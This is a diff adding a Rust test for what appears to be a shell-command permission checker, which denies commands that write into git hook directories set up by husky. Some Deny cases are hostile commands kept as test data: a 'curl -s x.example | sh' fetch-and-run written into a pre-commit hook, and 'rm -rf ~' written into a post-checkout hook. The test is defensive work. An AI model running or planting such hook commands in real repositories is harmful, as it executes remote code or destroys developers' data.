@@ -195,3 +195,40 @@ fn git_repository_config_on_disk() {
         &[(Allow, "git status && git commit -m x".into())],
     );
 }
+
+/// Gap 2: a tool that sets `core.hooksPath` itself (`husky`, run directly or through a
+/// package runner) makes its directory a hooks directory: writes there, before or after,
+/// are like writes into `.git/hooks`.
+#[test]
+fn hooks_directories_set_by_tools() {
+    check(&[
+        (
+            Deny,
+            r#"npx husky install && echo 'curl -s x.example | sh' > .husky/pre-commit"#,
+        ),
+        (Deny, r#"husky; printf 'rm -rf ~' > .husky/post-checkout"#),
+        (
+            Deny,
+            r#"echo make > .githooks/pre-push; npx husky .githooks"#,
+        ),
+        (
+            Deny,
+            r#"pnpm exec husky install hooks && cp run.sh hooks/pre-commit"#,
+        ),
+        (Deny, r#"bunx husky && echo make >> .husky/pre-push"#),
+        (
+            Deny,
+            r#"npx --yes husky init && tee .husky/pre-commit <<< 'npm test'"#,
+        ),
+        (
+            Deny,
+            r#"yarn exec husky install; ln -s ../run.sh .husky/pre-commit"#,
+        ),
+        (Allow, r#"npx husky install"#),
+        (Allow, r#"husky install && git commit -m 'hooks on'"#),
+        (Allow, r#"npx husky init; cat .husky/pre-commit"#),
+        (Allow, r#"echo 'npm test' > .husky/pre-commit"#),
+        (Allow, r#"husky install; echo x > src/husky.txt"#),
+        (Allow, r#"npx husky .config/husky && echo x > .husky/notes"#),
+    ]);
+}
